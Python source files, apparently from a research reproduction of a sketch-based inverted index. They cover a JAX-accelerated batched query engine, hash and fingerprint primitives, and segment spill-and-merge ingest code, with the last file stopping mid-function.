        Latency-aware dispatch: a lone query runs the scalar host probe
        (microseconds, reusing the engine's LRU of decoded BIC lists)
        rather than paying a device wave's dispatch latency; batches go
        through :meth:`query_batch`'s device wave."""
        return self.host_query(tokens, op=op)

    def query_batch(self, token_lists, *, op: str = "and"
                    ) -> list[np.ndarray]:
        """A wave of queries; ``token_lists[i]`` is query i's tokens."""
        return self.query_fps_batch(
            [[_as_fp(t) for t in toks] for toks in token_lists], op=op)

    def query_fps_batch(self, fps_lists, *, op: str = "and"
                        ) -> list[np.ndarray]:
        """Core wave evaluation over integer fingerprints."""
        if op not in ("and", "or"):
            raise ValueError(f"op={op!r}")
        n_queries = len(fps_lists)
        # empty queries resolve to empty immediately (Alg. 3 semantics)
        results: list = [np.empty(0, np.int64)] * n_queries
        live = [i for i, fps in enumerate(fps_lists) if len(fps)]
        if not live or not self.segments or self.n_postings == 0:
            return [np.empty(0, np.int64) for _ in range(n_queries)]

        fps_pad, mask = self._pack(fps_lists, live)
        bitmaps, counts = self._evaluate(fps_pad, mask, op)
        postings = self._extract(bitmaps, counts[:len(live)])
        for out, i in zip(postings, live):
            results[i] = out
        return results

    # ------------------------------------------------------------ packing
    def _pack(self, fps_lists, live):
        lens = np.asarray([len(fps_lists[i]) for i in live], np.int64)
        tb = _bucket(int(lens.max()), _MIN_T_BUCKET)
        qb = _bucket(len(live), _MIN_Q_BUCKET)
        fps = np.zeros((qb, tb), dtype=np.uint32)
        mask = np.zeros((qb, tb), dtype=bool)
        total = int(lens.sum())
        flat = np.fromiter((fp for i in live for fp in fps_lists[i]),
                           dtype=np.uint64, count=total).astype(np.uint32)
        rows = np.repeat(np.arange(len(live)), lens)
        cols = np.arange(total) - np.repeat(np.cumsum(lens) - lens, lens)
        fps[rows, cols] = flat
        mask[rows, cols] = True
        return fps, mask

    # --------------------------------------------------------- evaluation
    def _evaluate(self, fps: np.ndarray, mask: np.ndarray, op: str):
        """(Qb, Tb) wave -> ((Qb, W) device uint32 bitmaps, (Qb,) counts).

        Per-token plane accumulation (:meth:`_device_token_planes` — the
        hook the sharded engine overrides), an OR of any host-fallback
        contribution, then one reduce dispatch folding the T axis.  The
        combined bitmaps STAY on device for the extraction stage; only
        the per-query counts come back here."""
        fps_dev = jnp.asarray(fps)
        acc = self._device_token_planes(fps_dev)
        host_acc = None     # host-fallback contribution
        for si, seg in self._host_segs:
            rows = self._host_token_planes(si, seg, fps, mask)
            host_acc = rows if host_acc is None else host_acc | rows
        if host_acc is not None:
            h = jnp.asarray(host_acc)
            acc = h if acc is None else acc | h
        combined, counts = self._reduce_fn(op)(acc, jnp.asarray(mask))
        return combined, np.asarray(counts)

    def _device_token_planes(self, fps_dev):
        """(Qb, Tb) device fps -> (Qb, Tb, W) OR-accumulated token planes
        over the plane-backed segments: one probe dispatch per segment
        (keeping every segment's compiled graph small and its jit cache
        independent of the fleet size)."""
        acc = None
        for si, seg in self._plane_segs:
            rows = self._seg_fn(si)(fps_dev, self._seg_arrs(seg))
            acc = rows if acc is None else acc | rows
        return acc

    def _seg_arrs(self, seg):
        had = seg.has_device_cache()
        arrs = seg.device_cache()
        if not had:
            self.upload_count += 1
        return arrs

    def _seg_fn(self, si: int):
        """Jitted per-segment probe: (Qb, Tb) fps -> (Qb, Tb, W) token
        bitmaps (Pallas MPHF probe + signature check + CSF rank + plane
        gather), padded to the engine-global bitmap width."""
        fn = self._seg_fns.get(si)
        if fn is None:
            seg = self.segments[si]
            out_w = self.words

            def body(fps2d, arrs):
                self.compile_count += 1          # runs once per trace
                q, t = fps2d.shape
                rows = seg.match_bitmap_jnp(fps2d.reshape(-1), arrs,
                                            use_kernel=True)
                rows = rows.reshape(q, t, -1)[:, :, :out_w]
                pad = out_w - rows.shape[-1]
                if pad > 0:
                    rows = jnp.pad(rows, ((0, 0), (0, 0), (0, pad)))
                return rows

            fn = jax.jit(body)
            self._seg_fns[si] = fn
        return fn

    def _reduce_fn(self, op: str):
        """Jitted wave consumer: neutralize pad slots, fold the T axis,
        popcount.  Uses the Pallas bitset kernel on TPU backends."""
        fn = self._reduce_fns.get(op)
        if fn is None:
            def body(planes, mask):
                self.compile_count += 1
                neutral = jnp.uint32(0xFFFFFFFF if op == "and" else 0)
                planes = jnp.where(mask[:, :, None], planes, neutral)
                if self._use_bitset_kernel:
                    from ..kernels.bitset_ops.ops import bitset_reduce_batch
                    return bitset_reduce_batch(planes, op=op)
                from ..kernels.bitset_ops.ref import bitset_reduce_batch_ref
                return bitset_reduce_batch_ref(planes, op=op)

            fn = jax.jit(body)
            self._reduce_fns[op] = fn
        return fn

    # ------------------------------------------------------ host fallback
    def _host_token_planes(self, si: int, seg, fps: np.ndarray,
                           mask: np.ndarray) -> np.ndarray:
        """Host-side (Qb, Tb, W) bitmaps for a plane-less segment, with an
        LRU of decoded BIC posting lists shared across waves."""
        qb, tb = fps.shape
        rows = np.zeros((qb, tb, self.words), dtype=np.uint32)
        flat_fps, inverse = np.unique(fps[mask], return_inverse=True)
        if flat_fps.size == 0:
            return rows
        present, rank = seg.probe_fingerprints_np(flat_fps)
        fp_rows = np.zeros((flat_fps.size, self.words), dtype=np.uint32)
        for j in np.flatnonzero(present):
            postings = self._cached_postings(si, seg, int(rank[j]))
            np.bitwise_or.at(fp_rows[j], postings >> 5,
                             np.uint32(1) << (postings & 31)
                             .astype(np.uint32))
        # scatter only the real (masked) slots, via the unique-inverse map
        q_idx, t_idx = np.nonzero(mask)
        rows[q_idx, t_idx] = fp_rows[inverse]
        return rows

    def _cached_postings(self, si: int, seg, rank: int) -> np.ndarray:
        key = (si, rank)
        hit = self._lru.get(key)
        if hit is not None:
            self._lru.move_to_end(key)
            return hit
        postings = seg.postings_for_rank(rank)
        self._lru[key] = postings
        if len(self._lru) > self._lru_cap:
            self._lru.popitem(last=False)
        return postings

    # --------------------------------------------------------- extraction
    def _extract(self, bitmaps, counts: np.ndarray) -> list[np.ndarray]:
        """Bitmap -> posting-id compaction for a whole wave.

        ``bitmaps`` is the (Qb, W) device array straight out of the
        reduce; ``counts`` covers only the live rows.  Device mode (the
        default) runs the ``bitmap_extract`` compaction on device and
        transfers one (Qb, max_hits) id tensor; host mode decodes rows
        through the LRU-cached flatnonzero word decode — neither path
        materializes a full (Q, 32*W) bit matrix anywhere."""
        n = len(counts)
        out: list[np.ndarray] = [np.empty(0, np.int64)] * n
        nz = np.flatnonzero(counts > 0)
        if nz.size == 0:
            return out
        if self._extract_on_device:
            # the full (Qb, W) wave is compacted, pad rows included: Qb
            # is already the power-of-two bucket of the live count, so
            # slicing to the live rows would save under 2x only on
            # sub-minimum waves while re-tracing per distinct count
            max_hits = _bucket(int(counts.max()), _MIN_HITS_BUCKET)
            ids = np.asarray(self._extract_fn(max_hits)(bitmaps))
            for i in nz:
                out[int(i)] = ids[int(i), :int(counts[int(i)])] \
                    .astype(np.int64)
            return out
        rows = np.asarray(bitmaps[:n])
        for i in nz:
            out[int(i)] = self._decode_bitmap_host(rows[int(i)])
        return out

    def _extract_fn(self, max_hits: int):
        """Jitted device compaction: (Qb, W) bitmaps -> (Qb, max_hits)
        posting ids, -1-padded.  ``max_hits`` is bucketed (power of two)
        by the caller so repeated waves reuse the same trace."""
        fn = self._extract_fns.get(max_hits)
        if fn is None:
            def body(bitmaps):
                from ..kernels.bitmap_extract.ops import bitmap_extract
                ids, _ = bitmap_extract(bitmaps, max_hits=max_hits)
                return ids

            fn = jax.jit(body)
            self._extract_fns[max_hits] = fn
        return fn

    def _decode_bitmap_host(self, row: np.ndarray) -> np.ndarray:
        """Posting ids of one (W,) uint32 bitmap row, via flatnonzero over
        the non-empty words only (no full bit-matrix expansion), LRU-cached
        by row content so repeated needles skip the decode."""
        key = row.tobytes()
        hit = self._bm_lru.get(key)
        if hit is not None:
            self._bm_lru.move_to_end(key)
            return hit
        w_idx = np.flatnonzero(row)
        if w_idx.size == 0:
            ids = np.empty(0, np.int64)
        else:
            sub, lane = np.nonzero(
                (row[w_idx][:, None] >> np.arange(32, dtype=np.uint32)) & 1)
            ids = (w_idx[sub].astype(np.int64) << 5) + lane
            ids = ids[ids < self.n_postings]
        self._bm_lru[key] = ids
        if len(self._bm_lru) > self._lru_cap:
            self._bm_lru.popitem(last=False)
        return ids

    # ------------------------------------------------------------ replicas
    def clone(self) -> "QueryEngine":
        """A cheap serving replica over the same segments: shares every
        per-segment device cache (keyed process-globally for durable
        segments, per-sketch otherwise) but owns its jit caches and
        LRUs, so the serving layer can run concurrent waves on separate
        replicas without cross-wave locking."""
        return QueryEngine(self.segments, n_postings=self.n_postings,
                           lru_lists=self._lru_cap,
                           bitset_kernel=self._use_bitset_kernel,
                           extract_on_device=self._extract_on_device)

    # ------------------------------------------------------------- sizing
    def index_bytes(self, **kw) -> int:
        return sum(s.size_bytes(**kw) for s in self.segments)

    # ----------------------------------------------------- host scalar path
    def host_query(self, tokens, *, op: str = "and") -> np.ndarray:
        """Scalar host path with identical fan-out semantics (per-token
        union across segments, then AND/OR): the single-query fast path
        and the property-test oracle for the device waves.  Decoded BIC
        posting lists go through the engine's LRU, so repeated needles
        skip the decode entirely."""
        fps = [_as_fp(t) for t in tokens]
        if not fps:
            return np.empty(0, np.int64)
        per_token = []
        for fp in fps:
            parts = []
            for si, seg in enumerate(self.segments):
                pres, rk = seg.probe_fp_scalar(fp)
                if pres:
                    parts.append(self._cached_postings(si, seg, int(rk)))
            per_token.append(
                np.unique(np.concatenate(parts)) if parts
                else np.empty(0, np.int64))
        acc = per_token[0]
        for p in per_token[1:]:
            acc = (np.intersect1d(acc, p, assume_unique=True)
                   if op == "and" else np.union1d(acc, p))
        return acc.astype(np.int64)
