"""Hash primitives shared by the mutable/immutable sketches and the kernels.

Every hash here exists in three synchronized forms:
  * scalar python  (reference / host builders)
  * vectorized numpy (batch builders, oracles)
  * jnp            (device query path; the Pallas kernels mirror these ops)

The paper (§3.2, Def. 3.1/3.2) requires
  - a token fingerprint hash (4-byte fingerprints in the token map),
  - a per-posting element hash implemented as one LCG step
    (Steele & Vigna multipliers), combined with XOR into the commutative
    *postings hash* used for online posting-list deduplication.
"""
from __future__ import annotations

import numpy as np

import jax.numpy as jnp

# --- constants -------------------------------------------------------------
U32 = 0xFFFFFFFF
U64 = 0xFFFFFFFFFFFFFFFF

# polynomial rolling-hash multiplier (golden-ratio odd constant)
POLY_M32 = 0x9E3779B1
POLY_SEED = 0x811C9DC5  # FNV offset basis, reused as seed

# 64-bit LCG from Steele & Vigna, "Computationally easy, spectrally good
# multipliers for congruential pseudorandom number generators" (paper's [44]).
LCG_A = 0xD1342543DE82EF95
LCG_C = 0x2545F4914F6CDD1D

# murmur3 fmix32 constants
_FM32_1 = 0x85EBCA6B
_FM32_2 = 0xC2B2AE35
# splitmix64 fmix constants
_FM64_1 = 0xBF58476D1CE4E5B9
_FM64_2 = 0x94D049BB133111EB


# --- scalar (python int) ----------------------------------------------------
def fmix32(h: int) -> int:
    h &= U32
    h ^= h >> 16
    h = (h * _FM32_1) & U32
    h ^= h >> 13
    h = (h * _FM32_2) & U32
    h ^= h >> 16
    return h


def fmix64(h: int) -> int:
    h &= U64
    h ^= h >> 30
    h = (h * _FM64_1) & U64
    h ^= h >> 27
    h = (h * _FM64_2) & U64
    h ^= h >> 31
    return h


def lcg_step(x: int) -> int:
    """One LCG step (Def. 3.2): x_1 = (a * x_0 + c) mod 2^64."""
    return (LCG_A * (x & U64) + LCG_C) & U64


def posting_element_hash(p: int) -> int:
    """hash_element(p) — Def. 3.1 uses one LCG step seeded with the posting."""
    return lcg_step(p)


def postings_hash(postings) -> int:
    """Commutative XOR-combined hash of a set of postings (Def. 3.1)."""
    h = 0
    for p in postings:
        h ^= posting_element_hash(int(p))
    return h


def token_fingerprint(token: bytes, *, seed: int = POLY_SEED) -> int:
    """4-byte token fingerprint (token map key, §4.1)."""
    h = seed & U32
    for b in token:
        h = ((h * POLY_M32) & U32) ^ b
    return fmix32(h ^ (len(token) & U32))


# --- numpy vectorized -------------------------------------------------------
def np_fmix32(h: np.ndarray) -> np.ndarray:
    h = h.astype(np.uint32, copy=True)
    h ^= h >> np.uint32(16)
    h *= np.uint32(_FM32_1)
    h ^= h >> np.uint32(13)
    h *= np.uint32(_FM32_2)
    h ^= h >> np.uint32(16)
    return h


def np_fmix64(h: np.ndarray) -> np.ndarray:
    h = h.astype(np.uint64, copy=True)
    h ^= h >> np.uint64(30)
    h *= np.uint64(_FM64_1)
    h ^= h >> np.uint64(27)
    h *= np.uint64(_FM64_2)
    h ^= h >> np.uint64(31)
    return h


def np_posting_element_hash(p: np.ndarray) -> np.ndarray:
    p = p.astype(np.uint64)
    return np.uint64(LCG_A) * p + np.uint64(LCG_C)


def np_token_fingerprints(tokens_u8: np.ndarray, lengths: np.ndarray,
                          *, seed: int = POLY_SEED) -> np.ndarray:
    """Vectorized fingerprints for a packed (N, L) uint8 token matrix.

    Bytes past ``lengths[i]`` must be zero-padded; they are masked out by
    freezing the rolling state once the position index reaches the length.
    """
    n, max_len = tokens_u8.shape
    h = np.full((n,), seed, dtype=np.uint32)
    lengths = lengths.astype(np.int32)
    for j in range(max_len):
        active = j < lengths
        nh = (h * np.uint32(POLY_M32)) ^ tokens_u8[:, j].astype(np.uint32)
        h = np.where(active, nh, h)
    return np_fmix32(h ^ lengths.astype(np.uint32))


def np_window_fingerprints(mat: np.ndarray, lengths: np.ndarray, n: int,
                           *, seed: int = POLY_SEED
                           ) -> tuple[np.ndarray, np.ndarray]:
    """Fingerprints of every length-``n`` byte window of each row of a
    packed (N, L) u8 token matrix — the vectorized n-gram hasher of the
    columnar ingest path.  A window starting at column j of row i is valid
    when ``j + n <= lengths[i]``; returns (row_idx, fps) over the valid
    windows, bit-identical to ``token_fingerprint`` of each window's bytes.
    """
    N, L = mat.shape
    W = L - n + 1
    if N == 0 or W <= 0:
        return np.empty(0, np.int64), np.empty(0, np.uint32)
    h = np.full((N, W), seed, dtype=np.uint32)
    for k in range(n):
        h = (h * np.uint32(POLY_M32)) ^ mat[:, k:k + W].astype(np.uint32)
    fps = np_fmix32(h ^ np.uint32(n))
    valid = (np.arange(W, dtype=np.int64)[None, :] + n
             <= lengths.astype(np.int64)[:, None])
    rows = np.nonzero(valid)[0]
    return rows, fps[valid]


# --- jnp --------------------------------------------------------------------
def jnp_fmix32(h):
    h = h.astype(jnp.uint32)
    h = h ^ (h >> 16)
    h = h * jnp.uint32(_FM32_1)
    h = h ^ (h >> 13)
    h = h * jnp.uint32(_FM32_2)
    h = h ^ (h >> 16)
    return h


def jnp_posting_element_hash(p):
    """uint32-pair LCG step (TPUs have no u64 — emulate with hi/lo pairs).

    Returns (hi, lo) uint32 arrays such that (hi << 32) | lo equals the
    64-bit LCG step. Used by the commutative postings hash on device.
    """
    p = p.astype(jnp.uint32)
    a_lo = jnp.uint32(LCG_A & U32)
    a_hi = jnp.uint32(LCG_A >> 32)
    c_lo = jnp.uint32(LCG_C & U32)
    c_hi = jnp.uint32(LCG_C >> 32)
    # 32x32 -> 64 multiply via 16-bit limbs (TPU-safe)
    lo, carry = _mul32_wide(a_lo, p)
    hi = a_hi * p + carry
    # add c
    lo2 = lo + c_lo
    hi = hi + c_hi + (lo2 < lo).astype(jnp.uint32)
    return hi, lo2


def _mul32_wide(a, b):
    """(a * b) -> (lo32, hi32) using 16-bit limb decomposition."""
    a = a.astype(jnp.uint32)
    b = b.astype(jnp.uint32)
    a_lo = a & 0xFFFF
    a_hi = a >> 16
    b_lo = b & 0xFFFF
    b_hi = b >> 16
    ll = a_lo * b_lo
    lh = a_lo * b_hi
    hl = a_hi * b_lo
    hh = a_hi * b_hi
    mid = (ll >> 16) + (lh & 0xFFFF) + (hl & 0xFFFF)
    lo = (ll & 0xFFFF) | ((mid & 0xFFFF) << 16)
    hi = hh + (lh >> 16) + (hl >> 16) + (mid >> 16)
    return lo, hi


def jnp_token_fingerprints(tokens_u8, lengths, *, seed: int = POLY_SEED):
    """jnp mirror of :func:`np_token_fingerprints` (oracle for the kernel)."""
    n, max_len = tokens_u8.shape
    h = jnp.full((n,), seed, dtype=jnp.uint32)
    idx = jnp.arange(max_len, dtype=jnp.int32)
    lengths = lengths.astype(jnp.int32)
    for j in range(max_len):
        active = idx[j] < lengths
        nh = (h * jnp.uint32(POLY_M32)) ^ tokens_u8[:, j].astype(jnp.uint32)
        h = jnp.where(active, nh, h)
    return jnp_fmix32(h ^ lengths.astype(jnp.uint32))


def seeded_hash32(fp, seed: int):
    """Per-level / per-purpose derived 32-bit hash of a fingerprint (jnp)."""
    return jnp_fmix32(fp.astype(jnp.uint32) ^ jnp.uint32(seed & U32))


def np_seeded_hash32(fp: np.ndarray, seed: int) -> np.ndarray:
    return np_fmix32(fp.astype(np.uint32) ^ np.uint32(seed & U32))


def scalar_seeded_hash32(fp: int, seed: int) -> int:
    return fmix32((fp ^ seed) & U32)
