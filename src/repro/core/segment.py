"""Segmentation (§4.3): memory-bounded ingest with spill + merge, plus the
size-tiered compaction machinery that keeps segment fan-out bounded.

A ``SegmentWriter`` accepts columnar (fps, postings) batches — buffered as
flat arrays and sealed with the vectorized batch builder on spill — and,
for streamed scalar adds, still feeds the faithful mutable sketch, which
has become the small cross-batch overflow structure.  When the estimated
memory of the buffers + sketch exceeds ``memory_limit_bytes`` the live
content is sealed into a *temporary* segment (which — like the paper —
keeps the full token fingerprints so a later merge is possible; MPHFs
alone are not mergeable).  Temporaries are size-tiered: whenever
``compact_fanout`` temporaries land in the same power-of-two size tier
they merge into one, so the number of live segments stays O(log n).

``finish()`` merges all temporaries plus the live content into one
immutable sketch via the batch builder, equivalent to never having
segmented; ``finish_segments()`` instead builds one immutable sketch per
temporary for the multi-segment query fan-out.
"""
from __future__ import annotations

import numpy as np

from .batch_builder import build_sealed
from .immutable_sketch import ImmutableSketch, build_immutable
from .mutable_sketch import MutableSketch, SealedContent


def _tier(size: int) -> int:
    """Power-of-two size tier (LSM-style) of a segment size."""
    return max(0, int(size)).bit_length()


def tiered_merge(items: list, *, size_of, merge, fanout: int
                 ) -> tuple[list, int]:
    """Size-tiered compaction: while any power-of-two size tier holds
    >= ``fanout`` items, merge that tier into one item (placed at the
    position of its oldest member).  Returns (items, merge ops).  With N
    inserts of bounded size the surviving item count is O(log N).
    ``fanout <= 1`` disables compaction."""
    if fanout <= 1:
        return items, 0
    n_merges = 0
    while True:
        tiers: dict[int, list[int]] = {}
        for i, it in enumerate(items):
            tiers.setdefault(_tier(size_of(it)), []).append(i)
        crowded = [v for v in tiers.values() if len(v) >= fanout]
        if not crowded:
            return items, n_merges
        idxs = set(crowded[0])
        merged = merge([items[i] for i in sorted(idxs)])
        items = [it for i, it in enumerate(items) if i not in idxs]
        items.insert(min(min(idxs), len(items)), merged)
        n_merges += 1


class SegmentWriter:
    def __init__(self, *, memory_limit_bytes: int = 32 << 20,
                 short_list_threshold: int = 16,
                 sig_bits: int = 8,
                 plane_budget_bytes: int = 64 << 20,
                 compact_fanout: int = 4,
                 auto_spill: bool = True):
        self.memory_limit = memory_limit_bytes
        self.threshold = short_list_threshold
        self.sig_bits = sig_bits
        self.plane_budget = plane_budget_bytes
        self.compact_fanout = compact_fanout
        # auto_spill=False hands spill timing to the caller: the durable
        # store spills only at flush-batch boundaries so every sealed
        # temporary covers exactly the batches already written to the blob
        # file — the invariant per-spill manifest publication relies on.
        self.auto_spill = auto_spill
        self.sketch = MutableSketch(short_list_threshold=short_list_threshold)
        self.temporaries: list[SealedContent] = []
        self._col_fps: list[np.ndarray] = []
        self._col_posts: list[np.ndarray] = []
        self._col_bytes = 0
        self._col_version = 0
        self._live_sorted: tuple | None = None
        self._adds_since_check = 0
        self.n_spills = 0
        self.n_compactions = 0

    # ------------------------------------------------------------- ingest
    def add_line(self, tokens, posting: int) -> None:
        self.sketch.add_line(tokens, posting)
        self._adds_since_check += len(tokens)
        if self._adds_since_check >= 4096:
            self._adds_since_check = 0
            if self.auto_spill and self._memory_bytes() > self.memory_limit:
                self.spill()

    def add_fingerprints(self, fps, posting: int) -> None:
        for fp in fps:
            self.sketch.add_fingerprint(int(fp), posting)
        self._adds_since_check += len(fps)
        if self._adds_since_check >= 4096:
            self._adds_since_check = 0
            if self.auto_spill and self._memory_bytes() > self.memory_limit:
                self.spill()

    def add_fingerprint_batch(self, fps: np.ndarray,
                              postings: np.ndarray) -> None:
        """Columnar ingest: parallel (fp, posting) arrays are buffered as
        flat chunks — no per-token probing — and sealed with the sort-based
        batch builder on spill."""
        fps = np.asarray(fps, dtype=np.uint32)
        postings = np.asarray(postings, dtype=np.int64)
        if fps.shape != postings.shape:
            raise ValueError("fps and postings must be parallel 1-D arrays")
        if fps.size == 0:
            return
        self._col_fps.append(fps)
        self._col_posts.append(postings)
        self._col_bytes += fps.nbytes + postings.nbytes
        self._col_version += 1
        if self.auto_spill and self._memory_bytes() > self.memory_limit:
            self.spill()

    def _memory_bytes(self) -> int:
        return self._col_bytes + self.sketch.memory_bytes()

    # --------------------------------------------------------- live probe
    def live_postings(self, fp: int) -> np.ndarray:
        """Exact postings of ``fp`` in the LIVE (un-spilled) content: the
        columnar tail buffers plus the mutable overflow sketch.  This is
        the host probe behind queries served *during* ingest — the sealed
        temporaries cover everything up to the last spill, this covers the
        rest.  The sorted view of the tail buffers is cached and only
        rebuilt when the buffers changed since the last probe."""
        parts: list[np.ndarray] = []
        if self._col_fps:
            cache = self._live_sorted
            if cache is None or cache[0] != self._col_version:
                flat = np.concatenate(self._col_fps)
                posts = np.concatenate(self._col_posts)
                order = np.argsort(flat, kind="stable")
                cache = (self._col_version, flat[order], posts[order])
                self._live_sorted = cache
            _, sorted_fps, sorted_posts = cache
            lo = np.searchsorted(sorted_fps, np.uint32(fp), side="left")
            hi = np.searchsorted(sorted_fps, np.uint32(fp), side="right")
            if hi > lo:
                parts.append(np.asarray(sorted_posts[lo:hi], np.int64))
        got = self.sketch.acquire_postings(int(fp))
        if got is not None:
            parts.append(np.asarray(got, np.int64))
        if not parts:
            return np.empty(0, np.int64)
        return np.unique(np.concatenate(parts))

    # -------------------------------------------------------------- spill
    def _live_part(self) -> SealedContent | None:
        """Seal the live columnar buffers + overflow sketch (if any) into
        one SealedContent, resetting the live state."""
        parts: list[SealedContent] = []
        if self._col_fps:
            parts.append(build_sealed(np.concatenate(self._col_fps),
                                      np.concatenate(self._col_posts)))
            self._col_fps, self._col_posts = [], []
            self._col_bytes = 0
            self._col_version += 1
            self._live_sorted = None
        if self.sketch.stats.tokens:
            parts.append(self.sketch.seal())
            self.sketch = MutableSketch(short_list_threshold=self.threshold)
        if not parts:
            return None
        return parts[0] if len(parts) == 1 else merge_sealed(parts)

    def spill(self) -> None:
        """Seal the live content into a temporary segment (full
        fingerprints retained), then size-tier-compact the temporaries."""
        part = self._live_part()
        if part is None:
            return
        self.temporaries.append(part)
        self.n_spills += 1
        self.temporaries, merges = tiered_merge(
            self.temporaries, size_of=lambda p: len(p.fps),
            merge=merge_sealed, fanout=self.compact_fanout)
        self.n_compactions += merges

    # ------------------------------------------------------------- finish
    def finish(self) -> ImmutableSketch:
        """Merge temporaries + live content into the final immutable
        sketch."""
        parts = self._all_parts()
        merged = merge_sealed(parts)
        return build_immutable(merged, sig_bits=self.sig_bits,
                               plane_budget_bytes=self.plane_budget)

    def finish_segments(self, *, keep_sources: bool = True
                        ) -> list[ImmutableSketch]:
        """Multi-segment finish: every temporary (plus the live content)
        becomes its OWN immutable sketch — no monolithic merge.  Queries
        fan out over the per-segment sketches and OR their per-token
        bitmaps (core.query_engine.QueryEngine); posting ids stay global,
        so the union of a token's per-segment posting sets equals the
        monolithic posting set.  ``keep_sources`` retains each segment's
        SealedContent on ``sealed_source`` so cold segments stay mergeable
        by the store-level compactor."""
        segs = []
        for p in self._all_parts():
            sk = build_immutable(p, sig_bits=self.sig_bits,
                                 plane_budget_bytes=self.plane_budget)
            if keep_sources:
                sk.sealed_source = p
            segs.append(sk)
        return segs

    def _all_parts(self) -> list[SealedContent]:
        """Seal any live content into the temporaries (not counted as a
        spill, no tier merge) and return them.  Idempotent: a second
        finish()/finish_segments() sees the identical parts instead of
        silently dropping content buffered since the last spill."""
        live = self._live_part()
        if live is not None:
            self.temporaries.append(live)
        return list(self.temporaries)


def sealed_postings(content: SealedContent, fp: int) -> np.ndarray | None:
    """Exact postings of token fingerprint ``fp`` in one sealed part, or
    ``None`` when the token is absent.  ``content.fps`` is sorted unique
    (mutable-sketch seal and ``build_sealed`` both guarantee it), so this
    is a binary search — the reader-side probe of sealed-but-unfinished
    temporaries needs no sketch and has no false positives."""
    fps = np.asarray(content.fps)
    i = int(np.searchsorted(fps, np.uint32(fp)))
    if i >= len(fps) or int(fps[i]) != int(fp):
        return None
    return np.asarray(content.lists[int(content.list_ids[i])], np.int64)


def sealed_arrays(content: SealedContent) -> dict[str, np.ndarray]:
    """Flatten a SealedContent into named flat arrays for the segment-file
    serializer: the variable-length posting lists become one int64 column
    plus (L+1,) offsets.  Inverse of :func:`sealed_from_arrays`."""
    lens = np.asarray([len(l) for l in content.lists], np.int64)
    flat = (np.concatenate([np.asarray(l, np.int64) for l in content.lists])
            if lens.sum() else np.empty(0, np.int64))
    offsets = np.concatenate([np.zeros(1, np.int64), np.cumsum(lens)])
    return {
        "fps": np.asarray(content.fps, np.uint32),
        "list_ids": np.asarray(content.list_ids, np.int64),
        "lists_flat": flat,
        "list_offsets": offsets,
        "refcounts": np.asarray(content.refcounts, np.int64),
    }


def sealed_from_arrays(arrs: dict, *, n_postings: int,
                       stats: dict | None = None) -> SealedContent:
    """Rebuild a SealedContent from :func:`sealed_arrays` output.  The
    posting lists are VIEWS into ``lists_flat`` — when that column is an
    ``np.memmap`` the lists stay disk-resident and page in lazily, so the
    cold-segment compactor merges straight from disk."""
    offsets = np.asarray(arrs["list_offsets"], np.int64)
    flat = arrs["lists_flat"]
    lists = [flat[offsets[i]:offsets[i + 1]] for i in range(len(offsets) - 1)]
    return SealedContent(fps=arrs["fps"], list_ids=arrs["list_ids"],
                         lists=lists, refcounts=arrs["refcounts"],
                         n_postings=int(n_postings), stats=dict(stats or {}))


def merge_sealed(parts: list[SealedContent]) -> SealedContent:
    """Union of (fingerprint, posting) pairs across temporary segments,
    re-deduplicated — semantically the paper's merge-into-one-mutable-sketch.

    Fully vectorized: instead of materializing one (fp, postings) chunk
    pair per token (the old per-token ``np.full`` loop dominated
    ``finish()`` for online-mode ingest), each part expands through
    ``np.repeat`` over its per-token list lengths plus one flat gather."""
    if not parts:
        return SealedContent(fps=np.empty(0, np.uint32),
                             list_ids=np.empty(0, np.int64), lists=[],
                             refcounts=np.empty(0, np.int64), n_postings=0)
    fp_chunks, post_chunks = [], []
    stats: dict = {}
    for part in parts:
        if len(part.fps):
            list_lens = np.asarray([len(l) for l in part.lists], np.int64)
            flat = (np.concatenate([np.asarray(l, np.int64)
                                    for l in part.lists])
                    if list_lens.sum() else np.empty(0, np.int64))
            offsets = np.concatenate([[0], np.cumsum(list_lens)])
            tok_lens = list_lens[part.list_ids]
            total = int(tok_lens.sum())
            # flat indices: for token t, offsets[list_ids[t]] + [0..len)
            ends = np.cumsum(tok_lens)
            local = np.arange(total, dtype=np.int64) \
                - np.repeat(ends - tok_lens, tok_lens)
            gather = np.repeat(offsets[part.list_ids], tok_lens) + local
            fp_chunks.append(np.repeat(part.fps, tok_lens))
            post_chunks.append(flat[gather])
        for k, v in part.stats.items():
            if isinstance(v, (int, float)):
                stats[k] = stats.get(k, 0) + v
    if not fp_chunks:
        return SealedContent(fps=np.empty(0, np.uint32),
                             list_ids=np.empty(0, np.int64), lists=[],
                             refcounts=np.empty(0, np.int64), n_postings=0,
                             stats=stats)
    return build_sealed(np.concatenate(fp_chunks),
                        np.concatenate(post_chunks), stats)
