"""Segmentation (§4.3): memory-bounded ingest with spill + merge.

A ``SegmentWriter`` feeds a mutable sketch; when its estimated memory
exceeds ``memory_limit_bytes`` the sketch is sealed into a *temporary*
segment (which — like the paper — keeps the full token fingerprints so a
later merge is possible; MPHFs alone are not mergeable).  ``finish()``
merges all temporaries plus the live sketch into one immutable sketch via
the batch builder, equivalent to never having segmented.
"""
from __future__ import annotations

import numpy as np

from .batch_builder import build_sealed
from .immutable_sketch import ImmutableSketch, build_immutable
from .mutable_sketch import MutableSketch, SealedContent


class SegmentWriter:
    def __init__(self, *, memory_limit_bytes: int = 32 << 20,
                 short_list_threshold: int = 16,
                 sig_bits: int = 8,
                 plane_budget_bytes: int = 64 << 20):
        self.memory_limit = memory_limit_bytes
        self.threshold = short_list_threshold
        self.sig_bits = sig_bits
        self.plane_budget = plane_budget_bytes
        self.sketch = MutableSketch(short_list_threshold=short_list_threshold)
        self.temporaries: list[SealedContent] = []
        self._adds_since_check = 0
        self.n_spills = 0

    def add_line(self, tokens, posting: int) -> None:
        self.sketch.add_line(tokens, posting)
        self._adds_since_check += len(tokens)
        if self._adds_since_check >= 4096:
            self._adds_since_check = 0
            if self.sketch.memory_bytes() > self.memory_limit:
                self.spill()

    def add_fingerprints(self, fps, posting: int) -> None:
        for fp in fps:
            self.sketch.add_fingerprint(int(fp), posting)
        self._adds_since_check += len(fps)
        if self._adds_since_check >= 4096:
            self._adds_since_check = 0
            if self.sketch.memory_bytes() > self.memory_limit:
                self.spill()

    def spill(self) -> None:
        """Seal the live sketch into a temporary segment (full fingerprints
        retained) and start a fresh mutable sketch."""
        if self.sketch.stats.tokens == 0:
            return
        self.temporaries.append(self.sketch.seal())
        self.sketch = MutableSketch(short_list_threshold=self.threshold)
        self.n_spills += 1

    def finish(self) -> ImmutableSketch:
        """Merge temporaries + live sketch into the final immutable sketch."""
        parts = self._all_parts()
        merged = merge_sealed(parts)
